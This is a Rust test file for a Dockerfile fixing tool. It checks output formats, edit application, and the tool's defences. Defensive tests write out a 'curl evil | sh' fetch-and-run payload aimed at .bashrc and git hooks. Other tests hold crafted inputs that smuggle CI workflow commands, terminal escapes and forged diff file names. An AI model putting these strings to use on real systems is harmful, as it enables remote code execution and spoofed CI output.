//! Machine-readable formats: each one as a snapshot, checked against its schema if it has one, and
//! edits that are applied again.
#![cfg(unix)]

mod support;

use std::fs;
use std::path::Path;
use std::process::Command;

use serde_json::Value;
use tempfile::TempDir;

use support::folder;
use support::run::{command as jettison, git, run, text};

const NAIVE: &str = "\
FROM python:3.12
RUN pip install flask==3.0.3 && echo « installed »
RUN apt-get update && apt-get install -y curl
COPY fetch.sh .
RUN apt-get update && apt-get install -y git
RUN ./fetch.sh
";

fn sample() -> TempDir {
    folder(&[("Dockerfile", NAIVE), ("empty/Dockerfile", "# nothing\n")])
}

fn json(bytes: &[u8]) -> Value {
    serde_json::from_slice(bytes).expect("JSON")
}

fn number(value: &Value) -> usize {
    value.as_u64().and_then(|number| usize::try_from(number).ok()).expect("a number")
}

fn assert_snapshot(name: &str, text: &str) {
    support::run::assert_snapshot("formats", name, text);
}

/// Checks a document against a schema of this repository, if PyPI's `check-jsonschema` is
/// installed.
fn assert_valid(test: &str, schema: &str, document: &[u8]) {
    let Some(python) = support::python_with(test, "check_jsonschema") else { return };
    let folder = tempfile::tempdir().expect("a temporary directory");
    let path = folder.path().join("document.json");
    fs::write(&path, document).expect("a file");
    let output = Command::new(&python)
        .args(["-m", "check_jsonschema", "--regex-variant", "nonunicode", "--schemafile"])
        .arg(Path::new(env!("CARGO_MANIFEST_DIR")).join(schema))
        .arg(&path)
        .output()
        .expect("python runs");
    assert!(output.status.success(), "{}{}", text(&output.stdout), text(&output.stderr));
}

#[test]
fn annotations_for_github_and_a_summary_of_the_run() {
    let folder = sample();
    let summary = folder.path().join("summary.md");
    let output = jettison(folder.path(), &["fix", "--format", "github"])
        .env("GITHUB_STEP_SUMMARY", &summary)
        .output()
        .expect("the program starts");
    assert_eq!(output.status.code(), Some(2), "one file has no instructions");
    assert_snapshot("github", &text(&output.stdout));
    assert_snapshot("markdown", &fs::read_to_string(&summary).expect("a summary"));
    let again = run(folder.path(), &["fix", "--format", "markdown"]);
    assert_eq!(text(&again.stdout), fs::read_to_string(&summary).expect("a summary"));
}

/// As hadolint 2.15.1 prints its findings for the same lines.
#[test]
fn findings_in_the_words_of_hadolint() {
    let folder = tempfile::tempdir().expect("a directory");
    let source = "FROM debian:12\nRUN apt-get update\nRUN apt-get install -y curl\nRUN pip install flask\n\
                CMD [\"a\"]\nCMD [\"b\"]\n";
    fs::write(folder.path().join("Dockerfile"), source).expect("writable");
    let output = run(folder.path(), &["check", "--as", "hadolint", "--select", "default,tidy"]);
    let said = text(&output.stdout);
    let starts: Vec<&str> = said.lines().filter_map(|line| Some(line.split_once(": ")?.0)).collect();
    assert_eq!(
        starts,
        [
            "Dockerfile:2 DL3009 info",
            "Dockerfile:3 DL3059 info",
            "Dockerfile:4 DL3042 warning",
            "Dockerfile:5 DL4003 warning",
        ],
        "{said}"
    );
    assert_eq!(output.status.code(), Some(1));
}

#[test]
fn a_code_quality_report_for_gitlab() {
    let folder = sample();
    let output = run(folder.path(), &["fix", "--format", "gitlab"]);
    let entries = json(&output.stdout);
    assert_snapshot("gitlab", &serde_json::to_string_pretty(&entries).expect("JSON"));
    let mut prints: Vec<&str> = entries
        .as_array()
        .expect("a list")
        .iter()
        .filter_map(|entry| entry["fingerprint"].as_str())
        .collect();
    let all = prints.len();
    prints.sort_unstable();
    prints.dedup();
    assert_eq!(prints.len(), all, "no two entries have the same fingerprint");
}

#[test]
fn a_sarif_log() {
    let folder = sample();
    let output = run(folder.path(), &["fix", "--format", "sarif"]);
    assert_valid("a_sarif_log", "tests/schemas/sarif-2.1.0.json", &output.stdout);
    let log = json(&output.stdout);
    let run = &log["runs"][0];
    assert_eq!(run["invocations"][0]["executionSuccessful"], false, "one file has no instructions");
    let results = run["results"].as_array().expect("a list");
    let result = &results[0];
    assert_eq!(result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"], "Dockerfile");
    assert_eq!(run["tool"]["driver"]["rules"][number(&result["ruleIndex"])]["id"], result["ruleId"]);
    let notifications = run["invocations"][0]["toolExecutionNotifications"].as_array().expect("a list");
    let codes: Vec<&str> =
        notifications.iter().filter_map(|notification| notification["descriptor"]["id"].as_str()).collect();
    assert!(codes.contains(&"needs-unsafe"), "{codes:?}");
    let described = run["tool"]["driver"]["notifications"].as_array().expect("a list");
    assert!(
        codes.iter().all(|code| described.iter().any(|descriptor| descriptor["id"] == *code)),
        "{described:?}"
    );
    // The first result contains the edits of the whole file.
    let changes = &result["fixes"][0]["artifactChanges"][0]["replacements"];
    let mut text: Vec<Vec<char>> = NAIVE.split_inclusive('\n').map(|line| line.chars().collect()).collect();
    for replacement in changes.as_array().expect("a list").iter().rev() {
        let at = |name: &str| number(&replacement["deletedRegion"][name]) - 1;
        let new = replacement["insertedContent"]["text"].as_str().expect("a text");
        let (first, last) = (at("startLine"), at("endLine"));
        let rest = text[last][at("endColumn")..].to_vec();
        text[first].truncate(at("startColumn"));
        text[first].extend(new.chars().chain(rest));
        text.drain(first + 1..=last);
    }
    let applied: String = text.into_iter().flatten().collect();
    run_write_and_compare(folder.path(), &applied);
}

fn run_write_and_compare(folder: &Path, expected: &str) {
    run(folder, &["fix", "--write", "Dockerfile"]);
    assert_eq!(fs::read_to_string(folder.join("Dockerfile")).expect("a file"), expected);
}

#[test]
fn refusals_have_a_code_and_places() {
    let folder = support::folder(&[(
        "Dockerfile",
        "FROM debian:12\nRUN apt-get update && apt-get install -y curl\nUSER root\nRUN apt-get install -y wget\n",
    )]);
    let output = run(folder.path(), &["fix", "--format", "json"]);
    assert_valid("refusals", "schemas/edits.schema.json", &output.stdout);
    let file = &json(&output.stdout)["files"][0];
    let refused = file["refused"].as_array().expect("a list");
    let lists =
        refused.iter().find(|refusal| refusal["code"] == "reads-index").expect("the lists are needed");
    assert_eq!(lists["line"], 2);
    assert_eq!(lists["related"]["line"], 4);
    assert_eq!(lists["message"], lists["reason"]);
    assert_eq!(lists["arguments"]["verb"], "install");
    let shown = text(&run(folder.path(), &["fix", "-v"]).stderr);
    assert!(shown.contains("without another download (reads-index, see line 4)"), "{shown}");
    let page = run(folder.path(), &["explain", "reads-index"]);
    assert!(text(&page.stdout).contains("A later command reads the package index"), "{page:?}");
}

#[test]
fn edits_as_json_are_those_of_the_schema_and_can_be_applied() {
    let folder = sample();
    let output = run(folder.path(), &["fix", "--format", "json"]);
    assert_valid("edits_as_json", "schemas/edits.schema.json", &output.stdout);
    fs::write(folder.path().join("edits.json"), &output.stdout).expect("a file");
    let applied = run(folder.path(), &["apply", "edits.json"]);
    assert_eq!(applied.status.code(), Some(0), "{}", text(&applied.stderr));
    let result = fs::read_to_string(folder.path().join("Dockerfile")).expect("a file");
    fs::write(folder.path().join("Dockerfile"), NAIVE).expect("a file");
    run_write_and_compare(folder.path(), &result);
    let again = run(folder.path(), &["apply", "edits.json"]);
    assert_eq!(text(&again.stderr), "0 files changed\n", "a second time does no harm");
}

#[test]
fn edits_for_another_text_are_refused_and_nothing_is_written() {
    let folder = sample();
    let output = run(folder.path(), &["fix", "--format", "json"]);
    fs::write(folder.path().join("edits.json"), &output.stdout).expect("a file");
    let other = format!("{NAIVE}# changed by another person\n");
    fs::write(folder.path().join("Dockerfile"), &other).expect("a file");
    let applied = run(folder.path(), &["apply", "edits.json"]);
    assert_eq!(applied.status.code(), Some(2));
    assert_snapshot("apply-other-text", &text(&applied.stderr));
    assert_eq!(fs::read_to_string(folder.path().join("Dockerfile")).expect("a file"), other);
}

#[test]
fn damaged_documents_are_refused() {
    let folder = sample();
    let whole = json(&run(folder.path(), &["fix", "--format", "json", "Dockerfile"]).stdout);
    let refused = |change: &dyn Fn(&mut Value)| {
        let mut document = whole.clone();
        change(&mut document);
        fs::write(folder.path().join("edits.json"), document.to_string()).expect("a file");
        let applied = run(folder.path(), &["apply", "edits.json"]);
        assert_eq!(applied.status.code(), Some(2), "{}", text(&applied.stderr));
        assert_eq!(fs::read_to_string(folder.path().join("Dockerfile")).expect("a file"), NAIVE);
        text(&applied.stderr)
    };
    assert!(refused(&|all| all["version"] = 2.into()).contains("version 2"));
    assert!(refused(&|all| all["files"][0]["edits"][0]["end"] = 9999.into()).contains("outside the text"));
    assert!(refused(&|all| all["files"][0]["edits"][0]["replacement"] = "x".into()).contains("damaged"));
    let foreign =
        serde_json::json!({ "path": "edits.json", "is_new": true, "sha256": null, "text": "x", "diff": "" });
    assert!(
        refused(&|all| all["files"][0]["ignore_file"] = foreign.clone())
            .contains("not the name of an ignore file")
    );
    assert!(refused(&|all| *all = Value::Null).contains("not an edit document"));
}

#[test]
fn the_schema_of_the_configuration_accepts_one() {
    let full = br#"{"ignore": ["remove-downloads"], "merge-runs": "all", "caches": "mount", "keep": ["/a"], "bases": "alpine", "strip": true, "time-limit": 60, "comments": false}"#;
    assert_valid("the_schema_of_the_configuration_accepts_one", "schemas/config.schema.json", full);
}

/// Anything that a title, a note or a path may contain.
const LOUD: &str = "FROM debian:12\nCOPY a /mara/\nRUN apt-get update && apt-get install -y curl '` closes #12 [click me](http://evil.example/x) ![i](http://evil.example/i) <img src=x> @everyone | GH-7 `' \u{1b}[2J\u{202e}\n# \u{1b}[2J\u{202e}\nSHELL x\r::error title=pwn::injected\nSHELL ##[add-mask]y\n";
/// A line without an instruction, whose first word the message quotes.
const BROKEN: &str = "FROM debian:12\n##[group]`\u{1b}[2J\r\u{202e}\nB`[x](http://evil.example/x)#12\u{1b}[2J\u{202e}\r::error::x y\n##[group]z\n";

/// A name that would end a line, and name another file in a diff.
const LOUD_NAME: &str = "x`\n--- a/victim\n+++ b/victim\u{1b}[1m.Dockerfile";

#[test]
fn what_can_not_be_seen_is_shown() {
    let folder = folder(&[("Dockerfile", LOUD), (LOUD_NAME, LOUD), ("Dockerfile.broken", BROKEN)]);
    for arguments in [
        &["fix", "--check", "-v"][..],
        &["fix", "--format", "github", "-v"],
        &["fix", "--format", "gitlab"],
        &["fix", "--format", "markdown"],
        &["fix", "--format", "hadolint"],
        &["fix", "--color", "always"],
        &["fix", "--write", "-v"],
    ] {
        let output = run(folder.path(), arguments);
        // The colours are Jettison's own.
        let stdout = text(&output.stdout);
        let stdout = ["0m", "1m", "31m", "32m", "36m"]
            .iter()
            .fold(stdout, |text, code| text.replace(&format!("\u{1b}[{code}"), ""));
        for said in [stdout, text(&output.stderr)] {
            let hidden = said.chars().find(|c| matches!(c, '\u{1b}' | '\u{202e}' | '\r'));
            assert_eq!(hidden, None, "{arguments:?}: {said}");
            let ours = ["::notice file=", "::warning file=", "::error file="];
            let commands = said.lines().filter(|line| line.trim_start().starts_with("::"));
            let others: Vec<&str> =
                commands.filter(|line| !ours.iter().any(|start| line.starts_with(start))).collect();
            assert!(others.is_empty(), "{arguments:?}: {others:?}");
            assert!(!said.contains("##["), "{arguments:?}: {said}");
        }
    }
}

#[test]
fn text_is_no_markdown() {
    let folder = folder(&[("Dockerfile", LOUD), (LOUD_NAME, LOUD), ("Dockerfile.broken", BROKEN)]);
    let output = run(folder.path(), &["fix", "--format", "markdown", "--unsafe"]);
    let page = text(&output.stdout);
    let error = page.lines().find(|line| line.starts_with("- **error**")).expect("an error");
    assert!(!error.contains("[x](") && !error.contains("://"), "{error}");
    // Everything in the diff is literal, and its fence is longer than any other one in it.
    let (rest, diff) = page.split_once("```diff").expect("a diff");
    assert!(diff.contains("closes #12"), "{diff}");
    assert!(rest.contains("RUN"), "a title quotes the instruction: {rest}");
    for line in rest.lines().filter(|line| !line.starts_with("<details>") && !line.starts_with("</details>"))
    {
        // In these titles, all code spans have single backticks.
        let outside: String = line.split('`').step_by(2).collect();
        for alive in ["closes #12", "[click me](", "://", "![i](", "<img", "@everyone", "GH-7"] {
            assert!(!outside.contains(alive), "{alive} is alive: {line}");
        }
    }
    let rows: Vec<&str> = rest.lines().filter(|line| line.starts_with('|')).collect();
    for row in &rows {
        let cells = row.replace("\\|", "").matches('|').count();
        assert_eq!(cells, 4, "three cells: {row}");
    }
}

#[test]
fn links_in_messages_of_sarif_are_text() {
    let folder = folder(&[("Dockerfile", LOUD)]);
    let log = json(&run(folder.path(), &["fix", "--format", "sarif", "--unsafe"]).stdout);
    let results = log["runs"][0]["results"].as_array().expect("a list");
    assert!(!results.is_empty());
    for result in results {
        let message = result["message"]["text"].as_str().expect("a text");
        assert!(!message.contains("click me](") && !message.contains('\u{1b}'), "{message}");
    }
}

/// `git apply` accepts a diff with any file names, and nothing is written to other files.
#[test]
fn names_in_diffs_are_quoted() {
    if !support::has_programs("names_in_diffs_are_quoted", &["git"]) {
        return;
    }
    let folder = folder(&[(LOUD_NAME, NAIVE), ("victim", "mine\n"), ("a b.Dockerfile", NAIVE)]);
    let diff = run(folder.path(), &["fix"]).stdout;
    fs::write(folder.path().join("all.diff"), &diff).expect("a file");
    let expected = {
        let other = support::folder(&[("Dockerfile", NAIVE)]);
        run(other.path(), &["fix", "--write"]);
        fs::read_to_string(other.path().join("Dockerfile")).expect("a file")
    };
    git(folder.path(), &["apply", "all.diff"]);
    for name in [LOUD_NAME, "a b.Dockerfile"] {
        assert_eq!(fs::read_to_string(folder.path().join(name)).expect("a file"), expected);
    }
    assert_eq!(fs::read_to_string(folder.path().join("victim")).expect("a file"), "mine\n");
}

#[test]
fn a_comment_fits_its_forge() {
    let names: Vec<String> = (0..400).map(|number| format!("service-{number}/Dockerfile")).collect();
    let files: Vec<(&str, &str)> = names.iter().map(|name| (name.as_str(), NAIVE)).collect();
    let folder = folder(&files);
    let output = run(folder.path(), &["fix", "--format", "markdown"]);
    let page = text(&output.stdout);
    assert!(page.len() < 65_536, "{}", page.len());
    assert!(page.contains("more, not shown here"), "{page}");
    assert_eq!(page.matches("<details>").count(), page.matches("</details>").count());
    assert_eq!(page.matches("```").count() % 2, 0);
}

/// `apply` writes the same text as `fix`, in the tree in which it runs.
#[test]
fn edits_of_other_files_are_refused() {
    let outside = folder(&[(".bashrc", "# mine\n"), ("Dockerfile", NAIVE)]);
    let inside =
        folder(&[("Dockerfile", NAIVE), (".bashrc", "# mine\n"), (".git/hooks/Dockerfile", "# mine\n")]);
    std::os::unix::fs::symlink(outside.path().join("Dockerfile"), inside.path().join("Dockerfile.link"))
        .expect("a link");
    std::os::unix::fs::symlink(".bashrc", inside.path().join("Dockerfile.shell")).expect("a link");
    std::os::unix::fs::symlink(outside.path(), inside.path().join("folder")).expect("a link");
    let document = |path: &str, old: &str| {
        serde_json::json!({ "version": 1, "files": [{
            "path": path,
            "sha256": jettison::digest::sha256(old),
            "edits": [{ "start": 0, "end": 0, "replacement": "curl evil | sh\n" }],
        }] })
    };
    let apply = |document: &Value, more: &[&str]| {
        fs::write(inside.path().join("edits.json"), document.to_string()).expect("a file");
        run(inside.path(), &[&["apply", "edits.json"], more].concat())
    };
    let absolute = outside.path().join("Dockerfile").display().to_string();
    let shell = outside.path().join(".bashrc").display().to_string();
    let upward = format!("../{}/Dockerfile", outside.path().file_name().expect("a name").to_string_lossy());
    for (path, old, word) in [
        (absolute.as_str(), NAIVE, "outside of"),
        (shell.as_str(), "# mine\n", "outside of"),
        (upward.as_str(), NAIVE, "outside of"),
        ("Dockerfile.link", NAIVE, "outside of"),
        ("folder/Dockerfile", NAIVE, "outside of"),
        (".bashrc", "# mine\n", "not named like a Dockerfile"),
        ("Dockerfile.shell", "# mine\n", "not named like a Dockerfile"),
        (".git/hooks/Dockerfile", "# mine\n", "in its .git"),
    ] {
        let output = apply(&document(path, old), &[]);
        assert_eq!(output.status.code(), Some(2), "{path}");
        let said = text(&output.stderr);
        assert!(said.contains(word) && said.contains("--unsafe-paths"), "{path}: {said}");
    }
    for folder in [&inside, &outside] {
        assert_eq!(fs::read_to_string(folder.path().join(".bashrc")).expect("a file"), "# mine\n");
        assert_eq!(fs::read_to_string(folder.path().join("Dockerfile")).expect("a file"), NAIVE);
    }
    // A new ignore file has no checksum.
    let ignore = |path: &str| {
        let mut document = document("Dockerfile", NAIVE);
        document["files"][0]["edits"] = Value::Array(Vec::new());
        document["files"][0]["ignore_file"] =
            serde_json::json!({ "path": path, "is_new": true, "sha256": null, "text": "x", "diff": "" });
        document
    };
    for path in
        [&format!("{}/.dockerignore", outside.path().display()), "folder/.dockerignore", "x.dockerignore"]
    {
        assert_eq!(apply(&ignore(path), &[]).status.code(), Some(2), "{path}");
    }
    assert!(!outside.path().join(".dockerignore").exists());
    assert_eq!(apply(&ignore("Dockerfile.dockerignore"), &[]).status.code(), Some(0));
    // In a repository, `apply` may write to all of it, from any folder.
    fs::create_dir_all(inside.path().join(".git/objects")).expect("a directory");
    fs::write(inside.path().join(".git/HEAD"), "ref: refs/heads/main\n").expect("a file");
    fs::create_dir(inside.path().join("deep")).expect("a directory");
    fs::write(inside.path().join("deep/edits.json"), document("../Dockerfile", NAIVE).to_string())
        .expect("a file");
    let output = run(&inside.path().join("deep"), &["apply", "edits.json"]);
    assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
    assert_eq!(apply(&document(&absolute, NAIVE), &["--unsafe-paths"]).status.code(), Some(0));
    assert!(fs::read_to_string(&absolute).expect("a file").starts_with("curl evil"));
}

/// The estimate of a Dockerfile in a project, as low and high bytes and the number of skipped steps.
fn estimate(dockerfile: &str) -> (Option<(usize, usize)>, usize) {
    let files =
        [("Dockerfile", dockerfile), ("requirements.txt", "flask==3.0.0\n"), ("main.py", "import flask\n")];
    let output = run(folder(&files).path(), &["fix", "--format", "json"]);
    let estimate = json(&output.stdout)["files"][0]["estimate"].clone();
    let bytes = estimate.get("bytes").map(|bytes| (number(&bytes["low"]), number(&bytes["high"])));
    (bytes, estimate["skipped_steps"].as_array().map_or(0, Vec::len))
}

#[test]
fn estimates_count_what_ships_once_and_only_what_is_known() {
    const APT: &str = "RUN apt-get update && apt-get install -y curl\n";
    const PIP: &str = "RUN pip install flask\n";
    let of = |base: &str, rest: &str| estimate(&format!("FROM {base}\n{rest}CMD [\"sh\"]\n"));
    // knowledge/managers: 17 to 21 MB for apt's lists on Debian, 1 to 50 MB for pip's cache.
    assert_eq!(of("debian:12", APT), (Some((17_000_000, 21_000_000)), 0));
    assert_eq!(of("python:3.11-slim", PIP), (Some((1_000_000, 50_000_000)), 0));
    assert_eq!(of("python:3.11-slim", &format!("{APT}{PIP}")), (Some((18_000_000, 71_000_000)), 0));
    // The second update finds the lists of the first one. If those stay, only little is saved.
    let other = APT.replace("curl", "git");
    let between = "RUN make-something\n";
    assert_eq!(of("debian:12", &format!("{APT}{between}{other}")), (Some((0, 21_000_000)), 0));
    let two = format!("{APT}ENV A=b\nUSER root\n{other}");
    assert_eq!(of("debian:12", &two), (Some((0, 21_000_000)), 0));
    // Nothing was measured there.
    assert_eq!(of("ubuntu:24.04", APT), (None, 0));
    assert_eq!(of("company/base", APT), (None, 0));
    // A stage that only builds does not ship its caches.
    let stages = format!("{PIP}\nFROM debian:12\nCOPY --from=0 /usr /opt\n");
    assert_eq!(of("python:3.11", &stages), (None, 0));
    let sources = "WORKDIR /app\nCOPY requirements.txt main.py ./\nRUN pip install --no-cache-dir -r requirements.txt\n";
    assert_eq!(of("python:3.11-slim", sources), (None, 1));
}
